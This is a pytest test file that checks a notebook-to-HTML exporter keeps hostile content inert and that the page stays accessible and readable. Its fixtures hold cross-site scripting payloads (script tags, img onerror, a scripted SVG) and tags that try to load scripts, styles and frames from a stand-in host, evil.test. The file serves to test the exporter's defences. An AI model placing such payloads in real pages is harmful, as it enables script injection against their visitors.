"""A notebook as a page: hostile content stays text, nothing is fetched or run, and people can read it."""

import os
import re
from html.parser import HTMLParser

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat import v4, write

from transferlab import viz
from transferlab.reports.html import SECTIONS, audit_html, export_html
from transferlab.viz.words import visible

EVIL = "<script>window.hacked=1</script>"
EVIL_IMAGE = '"><img src=x onerror="window.hacked=2">'
CLASSES = (EVIL, EVIL_IMAGE, "cost $x_1$", "two\nlines", "سنجاب", "a long name of sixty letters " * 2)


def page_of(tmp_path, *cells, title="Report"):
    notebook, out = tmp_path / "n.ipynb", tmp_path / "page.html"
    write(v4.new_notebook(cells=list(cells)), notebook)
    export_html(notebook, out, title)
    return out


def shown(data, metadata=None, source="show()"):
    output = v4.new_output("display_data", data=data, metadata=metadata or {})
    return v4.new_code_cell(source, outputs=[output], execution_count=1)


def figure(card):
    return shown(*card._repr_mimebundle_())


def printed(text, name="stdout"):
    return v4.new_code_cell(
        "say()", outputs=[v4.new_output("stream", name=name, text=text)], execution_count=1
    )


def audit_of(names):
    paths = [f"{name}/1.png" for name in names]
    return {
        "read": 1234,
        "quarantined": [{"path": p, "reason": f"not an image: {p}"} for p in paths],
        "duplicates": [paths[:2]],
        "near_duplicates": [paths],
        "conflicting_labels": [{"paths": paths, "labels": list(names)}],
        "class_counts": dict.fromkeys(names, 3),
        "warnings": [f"class {name!r} has 3 images." for name in names],
    }


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory):
    rng = np.random.default_rng(0)
    truth = np.arange(60) % len(CLASSES)
    prose = [v4.new_markdown_cell(f"# Report\n\n{name}") for name in CLASSES[:1]]
    prose += [v4.new_markdown_cell(f"## On {name}\n\nSo *{name}* it is.") for name in CLASSES]
    return page_of(
        tmp_path_factory.mktemp("hostile_page"),
        *prose,
        shown({"text/html": audit_html(audit_of(CLASSES))}),
        shown(
            {
                "text/html": '<p class="finding">Use <a href="#main">it</a>.</p><table><tr><th>h</th></tr></table>'
            }
        ),
        figure(viz.class_balance({name: i + 1 for i, name in enumerate(CLASSES)})),
        figure(viz.confusion(truth, rng.permutation(truth), CLASSES)),
        printed(EVIL),
        v4.new_code_cell(f"print({EVIL!r})  " + "x" * 300, execution_count=2),
        title=f"Report {EVIL}",
    )


class Opened:
    """A page in the browser, with the requests that it tried and the complaints that it raised."""

    def __init__(self, context, out):
        self.tried, self.problems = [], []
        context.route("**/*", self._gate)
        self.page = context.new_page()
        self.page.on("console", lambda m: self.problems.append(m.text))
        self.page.on("pageerror", lambda e: self.problems.append(str(e)))
        self.page.goto(out.as_uri())

    def _gate(self, route):
        if route.request.url.startswith(("file:", "data:")):
            return route.continue_()
        self.tried.append(route.request.url)
        return route.abort()


@pytest.fixture(params=["light", "dark"])
def context(browser, request):
    made = browser.new_context(color_scheme=request.param, viewport={"width": 1280, "height": 900})
    yield made
    made.close()


@pytest.mark.browser
def test_hostile_names_neither_run_nor_fetch_and_are_read_as_they_are(context, hostile_page):
    opened = Opened(context, hostile_page)
    page = opened.page
    assert opened.tried == opened.problems == []
    assert page.evaluate("window.hacked") is None
    assert page.locator("script, iframe, main img:not(figure img)").count() == 0
    assert page.title() == f"Report {EVIL}"
    text = page.locator("main").text_content()
    for name in CLASSES:
        assert f"{visible(name)}/1.png" in text
    images = page.locator("figure img")
    assert images.count() == 2
    for i in range(2):
        assert images.nth(i).evaluate("i => i.complete && i.naturalWidth >= 800")
    assert EVIL in images.nth(0).get_attribute("alt")


@pytest.mark.browser
def test_text_keeps_its_contrast_and_the_page_its_width(context, hostile_page):
    page = Opened(context, hostile_page).page
    page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    for selector in ("main p", ".finding", ".finding a", ".warning", "th", "td", "summary", "nav a", "pre"):
        assert page.locator(selector).first.evaluate(CONTRAST) >= 4.5, selector
    for width in (1280, 400):
        page.set_viewport_size({"width": width, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= width


# WCAG 2.1's contrast ratio of an element's text to the first ground behind it that is not transparent.
CONTRAST = """e => {
  const numbers = c => c.match(/[\\d.]+/g).map(Number);
  const light = c => { const [r, g, b] = numbers(c).map(v => v / 255)
    .map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4); return 0.2126 * r + 0.7152 * g + 0.0722 * b };
  let ground = e;
  while (numbers(getComputedStyle(ground).backgroundColor)[3] === 0) ground = ground.parentElement;
  const [a, b] = [light(getComputedStyle(e).color), light(getComputedStyle(ground).backgroundColor)];
  return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05) }"""


@pytest.mark.browser
def test_page_is_walked_with_the_keyboard(context, hostile_page):
    page = Opened(context, hostile_page).page
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.getBoundingClientRect().left") >= 0
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    code = page.locator("details.code").first
    assert not code.locator("pre").is_visible()
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.matches('details.code > summary')"):
            break
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("Enter")
    assert code.locator("pre").is_visible()


@pytest.mark.browser
def test_contents_lead_to_their_headings(context, hostile_page):
    page = Opened(context, hostile_page).page
    links = page.locator("nav a")
    assert links.count() == len(CLASSES)
    reached = [
        page.evaluate(
            "a => document.getElementById(a.slice(1)).textContent", links.nth(i).get_attribute("href")
        )
        for i in range(links.count())
    ]
    assert reached == links.all_text_contents()
    assert page.locator("h1").count() == 1


@pytest.mark.browser
def test_attacks_in_a_notebooks_own_html_are_stopped_by_the_policy(context, tmp_path):
    attack = (
        "<script>window.hacked=1</script><script src='http://evil.test/a.js'></script>"
        "<img src='http://evil.test/b.png' onerror='window.hacked=2'><iframe src='http://evil.test/c'></iframe>"
        "<style>@import url(http://evil.test/d.css); body { background: url(http://evil.test/e.png) }</style>"
        "<link rel=stylesheet href='http://evil.test/f.css'><base href='http://evil.test/'>"
    )
    svg = (
        "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>parent.hacked=3</script></svg>"
    )
    out = page_of(tmp_path, shown({"text/html": attack}), shown({"image/svg+xml": svg}))
    opened = Opened(context, out)
    opened.page.wait_for_load_state("load")
    assert opened.tried == []
    assert opened.page.evaluate("window.hacked") is None
    assert opened.page.locator("figure img").evaluate("i => i.complete && i.naturalWidth") == 9
    assert any("Content Security Policy" in problem for problem in opened.problems)


def test_what_a_page_cannot_or_should_not_show_is_left_out(tmp_path):
    widget = {
        "application/vnd.jupyter.widget-view+json": {"model_id": "1"},
        "text/plain": "IntSlider(value=3)",
    }
    page = page_of(
        tmp_path,
        v4.new_markdown_cell("![remote picture](https://example.org/a.png) <b>raw</b>"),
        printed("a warning on stderr", name="stderr"),
        printed("\x1b[31mred\x1b[0m <i>"),
        shown(widget),
        shown({"text/markdown": "## From *output*"}),
        v4.new_code_cell("1 / 0", outputs=[v4.new_output("error", ename="Oops", evalue="<u>", traceback=[])]),
        v4.new_raw_cell("raw cell"),
        v4.new_code_cell("", execution_count=None),
    ).read_text(encoding="utf-8")
    for absent in (
        "https://example.org",
        "a warning on stderr",
        "IntSlider",
        "\x1b",
        "raw cell",
        "<b>",
        "<i>",
        "<u>",
    ):
        assert absent not in page
    for present in ("remote picture", "red &lt;i&gt;", "Oops: &lt;u&gt;", "From <em>output</em>", "1 / 0"):
        assert present in page
    assert page.count('class="code"') == 5


def test_headings_have_one_title_and_anchors_of_their_own(tmp_path):
    headings = ["## Same", "## Same", "## Same-2", "## !!!", "## main", "### Below", "## `code` & more"]
    page = page_of(tmp_path, *map(v4.new_markdown_cell, headings), title="A & B").read_text(encoding="utf-8")
    anchors = re.findall(r'<h\d id="([^"]+)"', page)
    assert len(anchors) == len(set(anchors)) == len(headings)
    assert "main" not in anchors
    linked = re.findall(r'<a href="#([^"]+)">(.*?)</a>', page.split("<nav", 1)[1].split("</nav>")[0])
    assert [anchor for anchor, _ in linked] == [a for a in anchors if a != "below"]
    assert linked[-1][1] == "code &amp; more"
    assert page.count("<h1") == 1 and "<h1>A &amp; B</h1>" in page
    titled = page_of(tmp_path, v4.new_markdown_cell("# Mine"), title="A & B").read_text(encoding="utf-8")
    assert titled.count("<h1") == 1 and "Mine</h1>" in titled and "<nav" not in titled


def test_pictures_have_alternative_text_and_their_width(tmp_path):
    card = viz.class_balance({'a "quoted" <name>': 9, "b": 3})
    page = page_of(tmp_path, figure(card), shown({"image/png": "iVBO\nRw=="})).read_text(encoding="utf-8")
    first, second = re.findall(r"<img [^>]*>", page)
    assert 'alt="a &quot;quoted&quot; &lt;name&gt;, the largest class' in first and 'width="800"' in first
    assert second == '<img alt="Figure" src="data:image/png;base64,iVBORw==">'


def test_page_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
    out = page_of(tmp_path, v4.new_markdown_cell("first"))
    assert out.stat().st_mode & 0o777 == 0o644
    before, files = out.read_text(), sorted(os.listdir(tmp_path))

    def fail(*_):
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(OSError, match="disk full"):
        page_of(tmp_path, v4.new_markdown_cell("second"))
    assert out.read_text() == before
    assert sorted(os.listdir(tmp_path)) == files


class Reader(HTMLParser):
    """Tags and text of a piece of HTML; complains of tags that do not close."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.text, self._open = set(), "", []
        self.feed(html)
        self.close()
        assert not self._open

    def handle_starttag(self, tag, attrs):
        self.tags.add((tag, *attrs))
        self._open.append(tag)

    def handle_endtag(self, tag):
        assert self._open.pop() == tag

    def handle_data(self, data):
        self.text += data


names_strategy = st.lists(
    st.text(st.characters(), min_size=1, max_size=20), min_size=1, max_size=4, unique=True
)
PLAIN = {(t,) for t in ("p", "details", "summary", "table", "tr", "td", "code")} | {
    ("p", ("class", "warning"))
}


@settings(deadline=None, max_examples=40)
@given(names_strategy | st.just(list(CLASSES)))
def test_audit_shows_every_name_and_never_as_markup(names):
    read = Reader(audit_html(audit_of(names)))
    assert read.tags <= PLAIN
    for name in names:
        assert f"not an image: {visible(name)}/1.png" in read.text
        assert f"{visible(name)}/1.png as {visible(name)}" in read.text
    read.text.encode("utf-8")


@settings(deadline=None, max_examples=40)
@given(st.sets(st.sampled_from(["read", "warnings", "class_counts", *SECTIONS])))
def test_audit_bears_missing_keys(kept):
    whole = {**audit_of(["cat", "dog"]), "removed": [{"path": "cat/1.png", "reason": "also in test"}]}
    text = Reader(audit_html({key: whole[key] for key in kept})).text
    assert ("1,234 images" in text) == ("read" in kept)
    assert ("Nothing was set aside" in text) == (not kept & set(SECTIONS))
    for key, heading in SECTIONS.items():
        assert (f"{heading}: " in text) == (key in kept)


def test_long_lists_are_folded_and_cut_with_a_count():
    found = audit_html({"quarantined": [{"path": f"{i}.png", "reason": "empty"} for i in range(1500)]})
    assert "Files left out: 1,500" in found and "and 1,300 more" in found
    assert found.count("<tr>") == 200
    assert "<details>" in found and "open" not in found
